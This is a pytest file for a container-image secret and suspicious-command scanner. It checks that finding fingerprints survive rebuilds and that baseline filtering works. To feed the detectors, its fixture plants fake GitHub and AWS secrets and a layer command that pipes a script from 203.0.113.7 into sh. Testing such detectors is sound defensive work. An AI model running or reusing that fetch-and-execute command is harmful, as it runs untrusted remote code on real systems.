"""Stable fingerprints and `scan --baseline`: a rebuild that did not change the offending content keeps
each finding's fingerprint (JSON `fingerprint`, SARIF partialFingerprints explorerFinding/v2) although
its layer number, layer digest and line move; changed content gets a new one."""

from __future__ import annotations

import json
import random
import string

import pytest

from explorer.main import main
from explorer.demo.imagewriter import Entry, ImageSpec, Layer
from explorer.detectors.token_checksums import with_checksum

import contextlib
import io


def run(*argv):
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        rc = main(list(argv))
    return rc, out.getvalue(), err.getvalue()


def token(seed: int) -> str:
    rng = random.Random(seed)
    return with_checksum("ghp_", "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(36)))


def spec(*, base: bytes, extra_layer: bool, secret: str, aws: str) -> ImageSpec:
    layers = [Layer([Entry.dir("/etc"), Entry.file("/etc/os-release", base)], created_by="ADD rootfs.tar /")]
    if extra_layer:
        layers.append(Layer([Entry.dir("/opt"), Entry.file("/opt/notes.txt", b"unrelated\n")],
                            created_by="COPY notes.txt /opt/"))
    layers.append(Layer([Entry.dir("/srv"), Entry.file("/srv/.env", f"GITHUB_TOKEN={secret}\n".encode())],
                        created_by="COPY .env /srv/"))
    layers.append(Layer([Entry.dir("/tmp")], created_by="/bin/sh -c curl -fsSL http://203.0.113.7/i.sh | sh"))
    return ImageSpec(layers=layers, env=["PATH=/usr/bin:/bin", f"AWS_SECRET_ACCESS_KEY={aws}"])


@pytest.fixture
def images(make_image):
    aws = "".join(random.Random(7).choice(string.ascii_letters + string.digits) for _ in range(40))
    first = make_image(spec(base=b"ID=one\n", extra_layer=False, secret=token(1), aws=aws))
    rebuilt = make_image(spec(base=b"ID=two\nVERSION=2\n", extra_layer=True, secret=token(1), aws=aws))
    changed = make_image(spec(base=b"ID=one\n", extra_layer=False, secret=token(2), aws=aws))
    return first, rebuilt, changed


def findings(image: str) -> list[dict]:
    rc, out, err = run("scan", image, "--format", "json")
    assert rc == 0, err
    return json.loads(out)["findings"]


def by_rule(found: list[dict]) -> dict[tuple, dict]:
    return {(f["rule_id"], f["source"]): f for f in found}


def test_fingerprints_survive_a_rebuild(images):
    first, rebuilt, changed = (by_rule(findings(i)) for i in images)
    expected = {("secret.github-pat", "file"), ("secret.aws-secret-access-key", "config"),
                ("suspicious.history.download-exec", "history")}
    assert expected <= first.keys()
    for key in expected:
        assert first[key]["fingerprint"] == rebuilt[key]["fingerprint"], key
        assert len(first[key]["fingerprint"]) == 32
    assert first[("secret.github-pat", "file")]["layer"] == 1 and rebuilt[("secret.github-pat", "file")]["layer"] == 2
    assert first[("secret.github-pat", "file")]["fingerprint"] != changed[("secret.github-pat", "file")]["fingerprint"]
    assert len({f["fingerprint"] for f in first.values()}) == len(first)


def test_sarif_partial_fingerprints(images):
    first = images[0]
    rc, out, _ = run("scan", first, "--format", "sarif")
    results = json.loads(out)["runs"][0]["results"]
    assert sorted(r["partialFingerprints"]["explorerFinding/v2"] for r in results) == \
        sorted(f["fingerprint"] for f in findings(first))


@pytest.mark.parametrize("fmt", ["json", "sarif"])
def test_baseline_reports_only_new_findings(images, tmp_path, fmt):
    first, rebuilt, changed = images
    baseline = tmp_path / f"baseline.{fmt}"
    assert run("scan", first, "--format", fmt, "--output", str(baseline))[0] == 0
    rc, out, _ = run("scan", rebuilt, "--format", "json", "--baseline", str(baseline), "--fail-on", "low")
    assert rc == 0 and json.loads(out)["findings"] == []
    rc, out, _ = run("scan", changed, "--format", "json", "--baseline", str(baseline), "--fail-on", "high")
    new = json.loads(out)["findings"]
    assert rc == 1 and [(f["rule_id"], f["path"]) for f in new] == [("secret.github-pat", "/srv/.env")]
    rc, out, _ = run("scan", rebuilt, "--baseline", str(baseline))
    assert rc == 0 and f"{len(findings(first))} finding(s) left out: already in the baseline" in out


@pytest.mark.parametrize("content, message", [
    ("{", "not a JSON report of explorer scan"),
    ('{"findings": [{"rule_id": "x"}]}', "the report has no fingerprints (made by an older explorer); "
                                         "make it again with scan --format json"),
    ('[1, 2]', "not a JSON or SARIF report of explorer scan"),
])
def test_bad_baseline_is_one_line(images, tmp_path, content, message):
    path = tmp_path / "b.json"
    path.write_text(content)
    rc, out, err = run("scan", images[0], "--baseline", str(path))
    assert (rc, out, err) == (2, "", f"explorer: --baseline {path}: {message}\n")
